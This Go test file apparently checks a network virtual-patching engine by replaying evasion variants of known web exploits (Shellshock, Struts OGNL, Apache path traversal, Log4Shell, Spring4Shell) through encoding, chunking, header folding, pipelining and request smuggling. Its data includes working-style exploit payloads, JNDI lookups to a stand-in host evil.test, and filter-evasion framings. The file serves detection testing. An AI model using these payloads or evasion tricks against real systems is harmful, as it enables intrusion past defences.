package evasion

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"strings"
	"testing"

	"github.com/patchgate/patchgate/dataplane"
	"github.com/patchgate/patchgate/dataplane/engine"
	"github.com/patchgate/patchgate/dataplane/patch"
)

// HTTP application-layer evasions: the same vulnerable condition written
// the ways servers accept (encodings, framing, folding, pipelining, HTTP/0.9),
// and benign requests that look alike. They are content variants, so they
// are replayed plainly and through a few transport classes.

// crlf turns every LF not preceded by CR into CRLF.
func crlf(s string) string {
	return strings.ReplaceAll(strings.ReplaceAll(s, "\r\n", "\n"), "\n", "\r\n")
}

// chunked encodes body in chunks of size n (the last may be shorter).
func chunked(body string, n int) string {
	var b strings.Builder
	for len(body) > 0 {
		k := min(n, len(body))
		fmt.Fprintf(&b, "%x\r\n%s\r\n", k, body[:k])
		body = body[k:]
	}
	b.WriteString("0\r\n\r\n")
	return b.String()
}

func gzipped(s string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write([]byte(s))
	w.Close()
	return b.String()
}

// req is one HTTP variant: a request (or several pipelined) from the client.
func req(id, name string, match bool, raw string) traffic {
	return traffic{name: name, patchID: id, match: match, port: 80,
		steps: []patch.Step{{Dir: dataplane.ToServer, Data: []byte(raw)}}}
}

const benignGET = "GET /index.html HTTP/1.1\r\nHost: example.test\r\n\r\n"

// httpVariants are the hand-written application-layer variants, per patch.
func httpVariants() []traffic {
	log4jForm := "user=admin&pass=${jndi:ldap://evil.test:1389/a}"
	springForm := "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
	return []traffic{
		// CVE-2015-1635: HTTP/1.0 without Host, lower-case field name.
		req("CVE-2015-1635", "HTTP/1.0 without Host", true, crlf("GET / HTTP/1.0\nRange: bytes=0-18446744073709551615\n\n")),
		req("CVE-2015-1635", "lower-case field name", true, crlf("GET / HTTP/1.1\nHost: example.test\nrange: bytes=0-18446744073709551615\n\n")),
		req("CVE-2015-1635", "overflow after a keep-alive request", true,
			benignGET+crlf("GET /welcome.png HTTP/1.1\nHost: example.test\nRange: bytes=18-18446744073709551615\n\n")),
		req("CVE-2015-1635", "two large representable ranges", false, crlf("GET /a HTTP/1.1\nHost: example.test\nRange: bytes=0-9223372036854775807,-100\n\n")),
		// CVE-2011-3192: spaces in the list, obsolete line folding.
		req("CVE-2011-3192", "spaces between ranges", true, crlf("GET / HTTP/1.1\nHost: example.test\nRange: bytes=0-, 5-0, 5-1, 5-2, 5-3, 5-4, 5-5\n\n")),
		req("CVE-2011-3192", "range list folded over two lines", true, "GET / HTTP/1.1\r\nHost: example.test\r\nRange: bytes=0-,5-0,5-1,\r\n 5-2,5-3,5-4,5-5\r\n\r\n"),
		req("CVE-2011-3192", "five ranges folded", false, "GET / HTTP/1.1\r\nHost: example.test\r\nRange: bytes=0-9,20-29,\r\n\t40-49,60-69,80-89\r\n\r\n"),
		// CVE-2014-6271: no space after the colon, Content-Type, HTTP/1.0.
		req("CVE-2014-6271", "no space after the colon", true, crlf("GET /cgi-bin/a HTTP/1.1\nHost: example.test\nUser-Agent:() { :;}; /bin/id\n\n")),
		req("CVE-2014-6271", "Content-Type of a POST", true, crlf("POST /cgi-bin/a HTTP/1.0\nContent-Type: () { :;}; /bin/id\nContent-Length: 3\n\na=1")),
		req("CVE-2014-6271", "function text in the body", false, crlf("POST /cgi-bin/a HTTP/1.1\nHost: example.test\nContent-Length: 15\n\nx=() { :;}; id\n")),
		// CVE-2017-5638: folded and lower-case Content-Type, chunked upload.
		req("CVE-2017-5638", "OGNL in a folded Content-Type", true, "POST /a.action HTTP/1.1\r\nHost: example.test\r\nContent-Type: multipart/form-data;\r\n %{(#_='multipart/form-data').(#a=1)}\r\nContent-Length: 0\r\n\r\n"),
		req("CVE-2017-5638", "lower-case field name, chunked body", true, crlf("POST /a.action HTTP/1.1\nHost: example.test\ncontent-type: ${#context['x']}\nTransfer-Encoding: chunked\n\n")+chunked("a=1", 2)),
		req("CVE-2017-5638", "percent and brace apart", false, crlf("POST /a HTTP/1.1\nHost: example.test\nContent-Type: text/plain; q=50% {x}\nContent-Length: 0\n\n")),
		// CVE-2021-41773 / CVE-2021-42013: HTTP/0.9, absolute-form target, pipelining.
		req("CVE-2021-41773", "HTTP/0.9 simple request", true, "GET /icons/.%2e/.%2e/.%2e/etc/passwd\r\n"),
		req("CVE-2021-41773", "absolute-form target", true, crlf("GET http://example.test/icons/.%2e/%2e%2e/etc/passwd HTTP/1.1\nHost: example.test\n\n")),
		req("CVE-2021-41773", "third pipelined request", true, benignGET+benignGET+crlf("GET /cgi-bin/%2E%2E/%2e%2E/bin/sh HTTP/1.1\nHost: example.test\n\n")),
		req("CVE-2021-41773", "overlong UTF-8 dots (Apache does not decode them)", false, crlf("GET /icons/%c0%ae%c0%ae/etc/passwd HTTP/1.1\nHost: example.test\n\n")),
		req("CVE-2021-41773", "encoded dots inside a name", false, crlf("GET /a/.%2e.txt/b HTTP/1.1\nHost: example.test\n\n")),
		req("CVE-2021-42013", "HTTP/0.9 simple request", true, "GET /icons/.%%32%65/.%%32%65/etc/passwd\r\n"),
		req("CVE-2021-42013", "absolute-form target", true, crlf("GET http://example.test/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh HTTP/1.1\nHost: example.test\n\n")),
		req("CVE-2021-42013", "double-encoded dots in a file name", false, crlf("GET /a/%%32%65%%32%65.txt HTTP/1.1\nHost: example.test\n\n")),
		// CVE-2021-44228: chunked and gzip bodies, folded header, deeper encodings, HTTP/0.9.
		req("CVE-2021-44228", "lookup split across chunks", true, crlf("POST /login HTTP/1.1\nHost: example.test\nContent-Type: application/x-www-form-urlencoded\nTransfer-Encoding: chunked\n\n")+chunked(log4jForm, 5)),
		req("CVE-2021-44228", "gzip-encoded JSON body", true, crlf(fmt.Sprintf("POST /api HTTP/1.1\nHost: example.test\nContent-Type: application/json\nContent-Encoding: gzip\nContent-Length: %d\n\n", len(gzipped(`{"q":"${jndi:ldap://evil.test/a}"}`))))+gzipped(`{"q":"${jndi:ldap://evil.test/a}"}`)),
		req("CVE-2021-44228", "gzip body sent chunked", true, crlf("POST /api HTTP/1.1\nHost: example.test\nContent-Type: text/plain\nContent-Encoding: gzip\nTransfer-Encoding: chunked\n\n")+chunked(gzipped("${jndi:rmi://evil.test/a}"), 7)),
		req("CVE-2021-44228", "folded header value", true, "GET / HTTP/1.1\r\nHost: example.test\r\nX-Api-Version: v1\r\n ${jndi:ldap://evil.test/a}\r\n\r\n"),
		req("CVE-2021-44228", "double percent-encoding in the query", true, crlf("GET /s?q=%2524%257Bjndi%253Aldap%253A%252F%252Fevil.test%252Fa%257D HTTP/1.1\nHost: example.test\n\n")),
		req("CVE-2021-44228", "upper-case lookup prefix", true, crlf("GET / HTTP/1.1\nHost: example.test\nX-Api-Version: ${JNDI:LDAP://evil.test/a}\n\n")),
		req("CVE-2021-44228", "HTTP/0.9 simple request", true, "GET /${jndi:ldap://evil.test/a}\r\n"),
		req("CVE-2021-44228", "pipelined after a benign request", true, benignGET+crlf("GET / HTTP/1.1\nHost: example.test\nReferer: ${jndi:dns://evil.test/a}\n\n")),
		req("CVE-2021-44228", "chunked body with braces and dollars", false, crlf("POST /cart HTTP/1.1\nHost: example.test\nContent-Type: text/plain\nTransfer-Encoding: chunked\n\n")+chunked("total: $5 {approx} ${HOME} jndi:ldap", 4)),
		// CVE-2022-22965: chunked form, encoded names.
		req("CVE-2022-22965", "chunked urlencoded body", true, crlf("POST /app HTTP/1.1\nHost: example.test\nContent-Type: application/x-www-form-urlencoded\nTransfer-Encoding: chunked\n\n")+chunked(springForm, 9)),
		req("CVE-2022-22965", "percent-encoded letters in the query", true, crlf("GET /app?%63lass%2Emodule%2EclassLoader%2EdefaultAssertionStatus=true HTTP/1.1\nHost: example.test\n\n")),
		req("CVE-2022-22965", "field in the query of a form POST", true,
			crlf("POST /app?class.module.classLoader.x=1 HTTP/1.1\nHost: example.test\nContent-Type: application/x-www-form-urlencoded\nContent-Length: 3\n\na=1")),
		req("CVE-2022-22965", "classification field in a chunked body", false, crlf("POST /app HTTP/1.1\nHost: example.test\nContent-Type: application/x-www-form-urlencoded\nTransfer-Encoding: chunked\n\n")+chunked("classification.module=1&className=x", 6)),
	}
}

// derivedHTTPVariants builds, from every shipped HTTP test, the same
// request pipelined after a benign one in the same segment, and the same
// request sent on a keep-alive connection after a complete exchange.
func derivedHTTPVariants(t testing.TB) []traffic {
	var out []traffic
	for _, tr := range catalogTraffic(t) {
		if protocolOf(t, tr.patchID) != "http" || len(tr.steps) != 1 {
			continue
		}
		p := tr
		p.name = "pipelined: " + tr.name
		p.steps = []patch.Step{{Dir: dataplane.ToServer, Data: append([]byte(benignGET), tr.steps[0].Data...)}}
		k := tr
		k.name = "keep-alive: " + tr.name
		k.steps = []patch.Step{
			{Dir: dataplane.ToServer, Data: []byte(benignGET)},
			{Dir: dataplane.ToClient, Data: []byte("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")},
			tr.steps[0],
		}
		out = append(out, p, k)
	}
	return out
}

// pick returns the named classes.
func pick(t testing.TB, names ...string) []class {
	all := append(append([]class{{name: "plain"}}, tcpClasses()...), ipClasses()...)
	var out []class
	for _, n := range names {
		found := false
		for _, c := range all {
			if c.name == n {
				out = append(out, c)
				found = true
			}
		}
		if !found {
			t.Fatalf("no class %q", n)
		}
	}
	return out
}

// appClasses carry the application-layer variants.
func appClasses(t testing.TB) []class {
	return pick(t, "plain", "1-byte-segments", "7-byte-segments-reordered", "low-ttl-decoys",
		"overlap-different-bytes-after", "frag-reverse-order", "ipv6-extension-header-chain")
}

// TestHTTPVariants replays the hand-written HTTP variants.
func TestHTTPVariants(t *testing.T) {
	t.Parallel()
	runClasses(t, appClasses(t), httpVariants())
}

// TestHTTPPipelinedAndKeepAlive replays every shipped HTTP test pipelined
// after a benign request and on a kept-alive connection.
func TestHTTPPipelinedAndKeepAlive(t *testing.T) {
	t.Parallel()
	runClasses(t, pick(t, "plain", "7-byte-segments-reordered"), derivedHTTPVariants(t))
}

// smuggledBodies are Spring4Shell and Log4Shell bodies framed the way
// Tomcat (and most Java servers) still accept while the HTTP analyzer
// declares the framing ambiguous and stops: chunked with a conflicting
// Content-Length, and "Transfer-Encoding: Chunked" (case) — Tomcat matches
// the coding case-insensitively and reads the body chunked.
func smuggledBodies() []traffic {
	springForm := "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
	log4jForm := "user=admin&pass=${jndi:ldap://evil.test:1389/a}"
	form := "Content-Type: application/x-www-form-urlencoded\n"
	return []traffic{
		req("CVE-2022-22965", "chunked body with a conflicting Content-Length", true,
			crlf("POST /app HTTP/1.1\nHost: example.test\n"+form+"Content-Length: 4\nTransfer-Encoding: chunked\n\n")+chunked(springForm, 16)),
		req("CVE-2022-22965", "Transfer-Encoding: Chunked", true,
			crlf("POST /app HTTP/1.1\nHost: example.test\n"+form+"Transfer-Encoding: Chunked\n\n")+chunked(springForm, 16)),
		req("CVE-2021-44228", "chunked body with a conflicting Content-Length", true,
			crlf("POST /login HTTP/1.1\nHost: example.test\n"+form+"Content-Length: 4\nTransfer-Encoding: chunked\n\n")+chunked(log4jForm, 16)),
	}
}

// TestHTTPAmbiguousFramingBlockPolicy: with Violations: block, a request
// whose framing the analyzer finds ambiguous resets the flow before its
// body reaches the server.
func TestHTTPAmbiguousFramingBlockPolicy(t *testing.T) {
	prog := catalog(t)
	for _, tr := range smuggledBodies() {
		t.Run(tr.patchID+"/"+tr.name, func(t *testing.T) {
			c := &class{name: "violations-block", segSize: 16, config: func(cfg *engine.Config) { cfg.Violations = engine.ViolationBlock }}
			r := execute(t, prog, build(t, tr, c))
			if r.delivered(msgRef{dir: dataplane.ToServer, msg: 0}) {
				t.Fatalf("ambiguous request reached the server: %s", r.describe())
			}
			if r.stats.Reasons[dataplane.ReasonAnalyzerViolation] == 0 {
				t.Fatalf("no analyzer_violation verdict: %s", r.describe())
			}
		})
	}
}

// TestHTTPAmbiguousFramingDefaultPolicy is the same traffic under the
// default configuration (Violations: count), as the shipped node runs.
func TestHTTPAmbiguousFramingDefaultPolicy(t *testing.T) {
	prog := catalog(t)
	for _, tr := range smuggledBodies() {
		t.Run(tr.patchID+"/"+tr.name, func(t *testing.T) {
			r := execute(t, prog, build(t, tr, &class{name: "default", segSize: 16}))
			if r.delivered(msgRef{dir: dataplane.ToServer, msg: 0}) {
				t.Fatalf("exploit body reached the server uninspected: %s", r.describe())
			}
		})
	}
}
